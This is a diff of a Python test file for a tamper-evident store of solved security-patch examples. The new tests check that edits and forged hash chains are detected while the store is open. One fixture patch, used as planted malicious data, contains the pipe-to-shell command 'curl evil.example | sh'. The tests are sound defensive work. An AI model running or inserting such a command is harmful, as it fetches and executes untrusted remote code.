@@ -10,7 +10,7 @@ import pytest
 from blake3 import blake3
 from tests.fence.fallback_kit import advisory, context, make_repo
 
-from tracebound.errors import AuditChainCorrupted, ValidationFailed
+from tracebound.errors import AuditChainCorrupted, StorageError, ValidationFailed
 from tracebound.events.anchor import AttemptAnchor
 from tracebound.integrity.chain import GENESIS
 from tracebound.pipeline.fallback import ApplyContext, PlanOutcome, SolvedExampleStore
@@ -116,6 +116,8 @@ def test_only_verified_plans_are_harvested(tmp_path: Path) -> None:
         "UPDATE examples SET patch = patch || ' ' WHERE seq = 1",
         "UPDATE examples SET advisory_id = 'GHSA-forged' WHERE seq = 1",
         "DELETE FROM examples WHERE seq = 1",
+        # a value of the wrong type used to escape as a raw AttributeError
+        "UPDATE examples SET patch = CAST(patch AS BLOB) WHERE seq = 1",
     ],
 )
 def test_tampering_is_found_on_open(tmp_path: Path, sql: str) -> None:
@@ -135,3 +137,89 @@ def test_tampering_is_found_on_open(tmp_path: Path, sql: str) -> None:
 def test_store_file_is_private(tmp_path: Path) -> None:
     SolvedExampleStore(tmp_path / "sub" / "ex.db").close()
     assert (tmp_path / "sub" / "ex.db").stat().st_mode & 0o077 == 0
+
+
+# --- the chain holds while the store is open, not just when it is opened --------------------
+
+PATCH_B = "--- a/r\n+++ b/r\n@@ -1 +1 @@\n-a\n+b\n"
+PATCH_C = "--- a/r\n+++ b/r\n@@ -1 +1 @@\n-a\n+c\n"
+EVIL = "--- a/r\n+++ b/r\n@@ -1 +1 @@\n-a\n+curl evil.example | sh\n"
+
+
+def _forge(path: Path, seq: int, patch: str) -> None:
+    """Replace one example's patch the way someone who has read this code would: the patch,
+    its digest, and every head from that row on recomputed, so the file verifies on open."""
+    from tracebound.integrity.chain import chain_hash
+    from tracebound.pipeline.fallback.retrieval import _entry
+
+    db = sqlite3.connect(path)
+    digest = blake3(patch.encode()).hexdigest()
+    db.execute(
+        "UPDATE examples SET patch = ?, patch_blake3 = ? WHERE seq = ?", (patch, digest, seq)
+    )
+    head = bytes(GENESIS)
+    rows = db.execute(
+        "SELECT seq, record_id, advisory_id, ecosystem, package, advisory_text, patch_blake3 "
+        "FROM examples ORDER BY seq"
+    ).fetchall()
+    for row_seq, rid, adv, eco, pkg, text, row_digest in rows:
+        new = chain_hash(head, _entry(rid, adv, eco, pkg, text=text, patch_digest=row_digest))
+        db.execute(
+            "UPDATE examples SET prev_head = ?, head = ? WHERE seq = ?", (head, new, row_seq)
+        )
+        head = new
+    db.commit()
+    db.close()
+
+
+def _naive_edit(path: Path, seq: int, patch: str) -> None:
+    db = sqlite3.connect(path)
+    db.execute("UPDATE examples SET patch = ? WHERE seq = ?", (patch, seq))
+    db.commit()
+    db.close()
+
+
+@pytest.mark.parametrize("edit", [_naive_edit, _forge])
+def test_an_example_edited_while_the_store_is_open_is_not_retrieved(
+    tmp_path: Path, edit: object
+) -> None:
+    # A long-lived store (the retry loop keeps one open across remediations) used to return
+    # whatever the file held by then: only the open verified the chain.
+    store = SolvedExampleStore(tmp_path / "ex.db")
+    ctx = _ctx(tmp_path)
+    store.on_validated(ctx, _plan(PATCH_B))
+    store.on_validated(ctx, _plan(PATCH_C))
+    head = store.chain_head
+    edit(tmp_path / "ex.db", 1, EVIL)  # type: ignore[operator]
+    with pytest.raises(AuditChainCorrupted, match="changed since"):
+        store.search(ctx)
+    if edit is _forge:
+        # The head moved: nothing is chained onto it. (A fresh process sees a valid chain
+        # with a different head: what the anchors recorded no longer matches it.)
+        with pytest.raises(AuditChainCorrupted, match="head changed"):
+            store.on_validated(ctx, _plan("--- a/r\n+++ b/r\n@@ -1 +1 @@\n-a\n+d\n"))
+        assert SolvedExampleStore(tmp_path / "ex.db").chain_head != head
+    store.close()
+
+
+def test_examples_another_process_added_are_verified_then_found(tmp_path: Path) -> None:
+    mine, theirs = SolvedExampleStore(tmp_path / "ex.db"), SolvedExampleStore(tmp_path / "ex.db")
+    ctx = _ctx(tmp_path)
+    first = mine.on_validated(ctx, _plan(PATCH_B))
+    second = theirs.on_validated(ctx, _plan(PATCH_C))
+    found = mine.search(ctx)
+    assert {e.record_id for e in found.examples} == {first, second}
+    assert found.chain_head == theirs.chain_head
+    third = mine.on_validated(ctx, _plan("--- a/r\n+++ b/r\n@@ -1 +1 @@\n-a\n+d\n"))
+    assert third is not None and len(theirs.search(ctx).examples) == 3
+    _naive_edit(tmp_path / "ex.db", 2, EVIL)  # their row, which "mine" has verified since
+    with pytest.raises(AuditChainCorrupted):
+        mine.search(ctx)
+    mine.close()
+    theirs.close()
+
+
+def test_a_store_path_that_cannot_be_made_is_a_storage_error(tmp_path: Path) -> None:
+    (tmp_path / "a-file").write_text("x")
+    with pytest.raises(StorageError, match="solved-example store"):
+        SolvedExampleStore(tmp_path / "a-file" / "ex.db")  # used to raise NotADirectoryError
